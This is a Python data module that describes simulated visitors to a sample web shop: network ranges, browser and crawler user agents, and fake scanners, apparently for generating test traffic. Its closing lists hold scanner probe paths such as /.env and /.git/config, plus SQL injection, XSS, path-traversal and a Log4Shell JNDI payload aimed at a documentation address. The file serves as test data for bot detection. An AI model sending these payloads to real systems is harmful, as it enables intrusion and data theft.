"""Who visits the sample web shop: browser and bot families, their networks and how they write headers.

Every value is invented or a public fact about a client's user agent; addresses are masked (``pin``) or taken from the
ranges reserved for documentation.
"""

from __future__ import annotations

from dataclasses import dataclass

KOREA_TELECOM = ("AS4766 Korea Telecom", "KR")
SK_BROADBAND = ("AS9318 SK Broadband Co Ltd", "KR")
LG_UPLUS = ("AS3786 LG DACOM Corporation", "KR")
COMCAST = ("AS7922 COMCAST-7922", "US")
DEUTSCHE_TELEKOM = ("AS3320 Deutsche Telekom AG", "DE")
FREE_SAS = ("AS12322 Free SAS", "FR")
NTT = ("AS4713 NTT Communications Corporation", "JP")
OVH = ("AS16276 OVH SAS", "FR")
DIGITALOCEAN = ("AS14061 DIGITALOCEAN-ASN", "US")
AMAZON = ("AS16509 AMAZON-02", "US")
HETZNER = ("AS24940 Hetzner Online GmbH", "DE")
ALIBABA = ("AS45102 Alibaba US Technology Co., Ltd.", "SG")
GOOGLE = ("AS15169 GOOGLE", "US")
MICROSOFT = ("AS8075 MICROSOFT-CORP-MSN-AS-BLOCK", "US")
FACEBOOK = ("AS32934 FACEBOOK", "US")
HUAWEI = ("AS136907 HUAWEI CLOUDS", "SG")
YANDEX = ("AS13238 YANDEX LLC", "RU")

HOME = (KOREA_TELECOM, KOREA_TELECOM, SK_BROADBAND, LG_UPLUS, COMCAST, DEUTSCHE_TELEKOM, FREE_SAS, NTT)
HOSTING = (OVH, OVH, DIGITALOCEAN, AMAZON, HETZNER, ALIBABA, FREE_SAS, KOREA_TELECOM)

CHROME_ACCEPT = (
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,"
    "application/signed-exchange;v=b3;q=0.9"
)
PLAIN_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
BOT_COMPATIBLE = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; "


@dataclass(frozen=True)
class Family:
    """One kind of client. ``agents`` may hold ``{v}`` (a version); ``role`` decides which pages it asks for."""

    name: str
    weight: int
    role: str
    networks: tuple[tuple[str, str], ...]
    agents: tuple[str, ...]
    versions: tuple[int, ...] = (0,)
    accept: str | None = "*/*"
    encoding: str | None = "gzip, deflate"
    browser: bool = False
    host_is_ip: float = 0.0


def _browser(
    name: str, weight: int, agents: tuple[str, ...], versions: tuple[int, ...], accept: str = CHROME_ACCEPT
) -> Family:
    return Family(name, weight, "visitor", HOME, agents, versions, accept, "gzip, deflate, br", browser=True)


_WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
_ANDROID = "Mozilla/5.0 (Linux; Android 12; SM-S908N) AppleWebKit/537.36 (KHTML, like Gecko) "
_IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "

BROWSERS = (
    _browser("chrome", 300, (_WINDOWS + "Chrome/{v}.0.0.0 Safari/537.36",), (103, 104, 105, 106)),
    _browser("edge", 90, (_WINDOWS + "Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.1370.34",), (104, 105, 106)),
    _browser("firefox", 60, ("Mozilla/5.0 (Windows NT 10.0; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",), (103, 104, 105)),
    _browser(
        "safari",
        70,
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
            "Version/{v}.0 Safari/605.1.15",
            _IPHONE + "Version/{v}.0 Mobile/15E148 Safari/604.1",
        ),
        (15, 16),
        PLAIN_ACCEPT,
    ),
    _browser("samsung", 50, (_ANDROID + "SamsungBrowser/{v}.0 Chrome/96.0.4664.104 Mobile Safari/537.36",), (17, 18)),
    _browser("whale", 40, (_WINDOWS + "Chrome/{v}.0.0.0 Whale/3.16.138.27 Safari/537.36",), (104, 105)),
    _browser("old-chrome", 12, (_WINDOWS + "Chrome/{v}.0.2171.95 Safari/537.36",), (39, 41)),
)

BOTS = (
    Family("googlebot", 55, "crawler", (GOOGLE,), (BOT_COMPATIBLE + "Googlebot/2.1; "
           "+http://www.google.com/bot.html) Chrome/{v}.0.5195.102 Safari/537.36", "Googlebot-Image/1.0"), (104, 105),
           encoding="gzip, deflate, br"),
    Family("bingbot", 45, "crawler", (MICROSOFT,), (BOT_COMPATIBLE + "bingbot/2.0; "
           "+http://www.bing.com/bingbot.htm) Chrome/{v}.0.5060.134 Safari/537.36",), (100, 103),
           encoding="gzip, deflate, br"),
    Family("petalbot", 35, "crawler", (HUAWEI,), ("Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 "
           "(KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",)),
    Family("yandexbot", 30, "crawler", (YANDEX,), ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",)),
    Family("facebookexternalhit", 25, "preview", (FACEBOOK,), (
           "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "cortex/1.0")),
    Family("slackbot", 20, "preview", (AMAZON,), ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
           "Slack-ImgProxy (+https://api.slack.com/robots)")),
    Family("python", 40, "script", HOSTING, ("python-requests/2.{v}.1", "Python-urllib/3.{v}"), (8, 9, 10, 27, 28),
           host_is_ip=0.2),
    Family("go", 30, "script", HOSTING, ("Go-http-client/1.1", "Go-http-client/2.0"), accept=None, encoding="gzip",
           host_is_ip=0.4),
    Family("java", 20, "script", HOSTING, ("Java/1.8.0_{v}", "Apache-HttpClient/4.5.13 (Java/11.0.16)"),
           (181, 321, 345), "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2", None),
    Family("curl", 12, "script", HOSTING, ("curl/7.{v}.0",), (58, 68, 81), encoding=None, host_is_ip=0.5),
    Family("sqlmap", 15, "injection", HOSTING, ("sqlmap/1.6.{v}#stable (https://sqlmap.org)",), (4, 7, 9)),
    Family("zgrab", 18, "probe", HOSTING, ("Mozilla/5.0 zgrab/0.x",), host_is_ip=0.9),
    # Scanners that claim to be a browser: an old Chrome, no Sec-Fetch headers, Accept of a script.
    Family("fake-chrome", 45, "probe", HOSTING, (_WINDOWS + "Chrome/{v}.0.3987.149 Safari/537.36",), (70, 80), "*/*",
           "gzip, deflate, sdch", host_is_ip=0.3),
    # Claims to be Googlebot from a hosting network: the case a known-bot rule by name alone gets wrong.
    Family("fake-googlebot", 8, "probe", (OVH, HETZNER), ("Mozilla/5.0 (compatible; Googlebot/2.1; "
           "+http://www.google.com/bot.html)",)),
)  # fmt: skip

FAMILIES = BROWSERS + BOTS

APPS = ("backup", "calendar", "chat", "geoip", "firewall", "openldap", "aws", "azure", "github", "slack", "telegram",
        "fortigate", "paloalto", "axgate", "secui", "ahnlab", "nginx", "apache", "mysql", "postgresql")  # fmt: skip
VISITOR_PATHS = ("/", "/ko", "/en", "/ko/apps", "/en/apps", "/ko/login", "/ko/oauth", "/timezone", "/ip", "/ko/docs",
                 "/en/docs", "/ko/pricing", "/favicon.ico", "/assets/app.js", "/assets/app.css")  # fmt: skip
CRAWLER_PATHS = ("/robots.txt", "/sitemap.xml", "/sitemap.txt", "/ko/apps", "/en/apps", "/ko/docs", "/en/docs")
PROBE_PATHS = (
    "/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php", "/boaform/admin/formLogin", "/actuator/health",
    "/owa/auth/logon.aspx", "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info",
    "/HNAP1", "/config.json", "/backup.sql", "/server-status", "/manager/html", "/xmlrpc.php", "/login.action",
)  # fmt: skip
INJECTIONS = (
    "id=1' OR '1'='1", "id=1 UNION ALL SELECT NULL,NULL,CONCAT(0x7178,user(),0x71)-- -", "q=1' AND SLEEP(5)-- x",
    "id=1 AND 1=CONVERT(int,(SELECT @@version))", "sort=name;DROP TABLE users--", "q=<script>alert(1)</script>",
    "file=../../../../etc/passwd", "x=${jndi:ldap://203.0.113.66/a}",
)  # fmt: skip
LANGUAGES = {"KR": "ko-KR,ko;q=0.9,en-US;q=0.8,en;q=0.7", "FR": "fr-FR,fr;q=0.9,en;q=0.8", "DE": "de-DE,de;q=0.9",
             "JP": "ja-JP,ja;q=0.9", "US": "en-US,en;q=0.9"}  # fmt: skip
